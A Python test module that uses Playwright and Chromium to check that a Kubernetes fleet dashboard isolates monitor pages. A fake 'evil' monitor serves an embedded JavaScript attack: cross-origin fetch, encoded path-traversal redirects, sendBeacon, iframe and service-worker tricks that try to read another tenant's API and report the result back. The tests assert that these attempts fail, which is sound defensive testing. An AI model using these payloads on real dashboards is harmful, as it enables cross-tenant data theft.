"""Monitors in a browser, through the fleet: one of ours works, and one that means ill reaches no other."""

import asyncio
import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import NamedTuple
from urllib.parse import unquote

import pytest
from playwright.sync_api import Browser, expect

from flower_operator import connection
from flower_operator.kinds import FLOWER_MONITOR
from flower_operator.kube import connect
from flower_operator.spec import Key
from tests.dashboard.site import PAGE
from tests.fleet.fake_monitor import FakeMonitor, fake_monitor, reply
from tests.fleet.made import manifest, summary_body
from tests.fleet.people import account
from tests.fleet.program import until
from tests.fleet.world import INTO, OPERATOR, TEAM_B, World, world
from tests.support import ci
from tests.support.celery import send, worker
from tests.support.chromium import PATIENCE, chromium, visit
from tests.support.kube_programs import Access

__all__ = ["world"]

pytestmark = pytest.mark.xdist_group("fleet page")


class People(NamedTuple):
    """The evil monitor, and the token of one who may everything in all namespaces."""

    evil: FakeMonitor
    admin: str


@pytest.fixture(scope="module")
def people(kube_server: Access, world: World) -> Iterator[People]:
    if not PAGE.exists():
        ci.missing("the pages are not built; run `make dashboard`")
    with fake_monitor() as evil:
        token = asyncio.run(prepare(kube_server, evil.port))
        path = f"/api/v1/monitors/{TEAM_B}/evil"
        until(lambda: world.fleet.get(path).status_code, lambda status: status == 200)
        yield People(evil, token)
        asyncio.run(clear(kube_server))


async def prepare(kube_server: Access, port: int) -> str:
    async with connect(await connection.load(kube_server.kubeconfig)) as api:
        await api.create(FLOWER_MONITOR, TEAM_B, manifest(Key(TEAM_B, "evil"), {"service": {"port": port}}))
        return await account(api, OPERATOR, "get", "update", "administer")


async def clear(kube_server: Access) -> None:
    async with connect(await connection.load(kube_server.kubeconfig)) as api:
        await api.delete(FLOWER_MONITOR, TEAM_B, "evil")


@pytest.fixture(scope="module")
def browser(people: People) -> Iterator[Browser]:
    """Started after `people`: it keeps asyncio busy in this thread."""
    with chromium() as started:
        yield started


# Chromium warns of frames with such a sandbox, which their parent could take off them. This is no frame.
def test_a_monitors_page_lives(world: World, people: People, browser: Browser, tmp_path: Path) -> None:
    """Its scripts, its API and its stream, all by way of the fleet, with a Kubernetes token as login."""
    with (
        worker(world.broker.url, tmp_path),
        visit(browser, world.fleet.url, ("token", people.admin)) as visitor,
    ):
        visitor.page.goto(f"{INTO}/tasks")
        expect(visitor.page.get_by_text("Live", exact=True)).to_be_visible(timeout=PATIENCE)
        uuid = send(world.broker.url, "add", 1, 2)
        expect(visitor.page.locator(f"[role=row][data-id='{uuid}']")).to_be_visible(timeout=PATIENCE)
        visitor.page.goto(f"{INTO}/task/{uuid}")
        expect(visitor.page.get_by_text(uuid).first).to_be_visible(timeout=PATIENCE)
        assert [fault for fault in visitor.faults if "can escape its sandboxing" not in fault] == []


ATTACK = """
const said = [];
const tell = (what) => fetch('told?' + encodeURIComponent(what));
const steal = async (how, get) => {
  try { said.push(how + ': ' + (await get())); } catch (error) { said.push(how + ': refused'); }
};
(async () => {
  const target = TARGET;
  await steal('fetch', async () => (await fetch(target)).text());
  await steal('redirect', async () => (await fetch('away')).text());
  await steal('beacon', async () => navigator.sendBeacon(target, 'x'));
  await steal('window', async () => window.open('/').document.title);
  await steal('frame', async () => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.src = '/';
    await new Promise((resolve) => setTimeout(resolve, 500));
    return frame.contentWindow.fetch(target).then((answer) => answer.text());
  });
  await steal('worker', async () => (await navigator.serviceWorker.register('evil.js', {scope: '/'})).scope);
  await tell(JSON.stringify(said));
})();
"""


def test_an_evil_monitors_page_reaches_no_other_monitor(world: World, people: People, browser: Browser) -> None:
    """Though it has the origin of all of them, and the one who looks at it may everything everywhere."""
    evil, target = people.evil, f"{INTO}/api/v1/summary"

    def answer(handler: BaseHTTPRequestHandler) -> None:
        if handler.path == "/":
            reply(handler, 200, b"<body><script src=evil.js></script>", **{"Content-Type": "text/html"})
        elif handler.path == "/evil.js":
            script = ATTACK.replace("TARGET", json.dumps(target)).encode()
            reply(handler, 200, script, **{"Content-Type": "text/javascript", "Service-Worker-Allowed": "/"})
        elif handler.path == "/away":
            reply(handler, 302, b"", Location="/%2e%2e/%2e%2e" + target.removeprefix("/n"))
        else:
            reply(handler, 200, summary_body())

    evil.answer = answer
    with visit(browser, world.fleet.url, ("token", people.admin)) as visitor:
        visitor.page.goto("/")  # from here on the browser sends the login everywhere
        visitor.page.goto(f"/n/{TEAM_B}/evil/")
        told = until(lambda: [path for path in evil.paths if path.startswith("/told?")], lambda paths: len(paths) == 1)
    said = {one.split(": ")[0]: one.split(": ", 1)[1] for one in json.loads(unquote(told[0].removeprefix("/told?")))}
    assert "orders" not in str(said)
    assert (said["fetch"], said["window"], said["worker"]) == ("refused", "refused", "refused")
    written = [entry["path"] for entry in world.orders.get("/api/v1/audit")["items"]]
    assert "/api/v1/summary" not in written, "the beacon is a write, which would be in the audit"
